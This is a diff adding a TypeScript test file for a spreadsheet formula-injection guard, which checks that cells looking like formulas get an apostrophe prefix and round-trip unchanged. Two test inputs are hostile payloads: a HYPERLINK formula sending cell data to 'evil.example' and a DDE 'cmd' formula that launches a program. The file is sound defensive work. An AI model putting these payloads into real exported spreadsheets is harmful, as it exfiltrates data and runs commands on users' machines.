@@ -1,0 +1,60 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { guardFormula, unguardFormula } from '../../src/domain/formula-guard.ts';
+import { cellText } from '../support/hostile-text.ts';
+
+describe('a cell that a spreadsheet would take for a formula', () => {
+  it.each([
+    '=1+1',
+    '+33 1 23',
+    '-2',
+    '@SUM(A1)',
+    '\t=1',
+    '\r=1',
+    '\n=1',
+    '＝1+1',
+    '＋1',
+    '－1',
+    '＠x',
+    `=HYPERLINK("https://evil.example/?"&A1,"Click")`,
+    `=cmd|' /C calc'!A0`,
+  ])('%j begins with an apostrophe', (text) => {
+    expect(guardFormula(text)).toBe(`'${text}`);
+    expect(unguardFormula(`'${text}`)).toBe(text);
+  });
+
+  it.each([
+    '',
+    'Ada',
+    "O'Neil",
+    "'quoted'",
+    "'",
+    ' =1',
+    'a=b',
+    '1-2',
+    'ada@example.com',
+    '“=1”',
+    '👩‍💻',
+    'عبد',
+  ])('%j is none, and stays as it is', (text) => {
+    expect(guardFormula(text)).toBe(text);
+    expect(unguardFormula(text)).toBe(text);
+  });
+
+  it('that was guarded by somebody else is guarded once more, so that it comes back as it was', () => {
+    expect(guardFormula("'=1")).toBe("''=1");
+    expect(guardFormula("''-1")).toBe("'''-1");
+    expect(unguardFormula("''=1")).toBe("'=1");
+  });
+
+  it('any text comes back as it was, and never begins as a formula in between', () => {
+    fc.assert(
+      fc.property(cellText, (text) => {
+        const guarded = guardFormula(text);
+        expect(unguardFormula(guarded)).toBe(text);
+        expect(guarded).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
+      }),
+      { numRuns: 2_000 },
+    );
+  });
+});
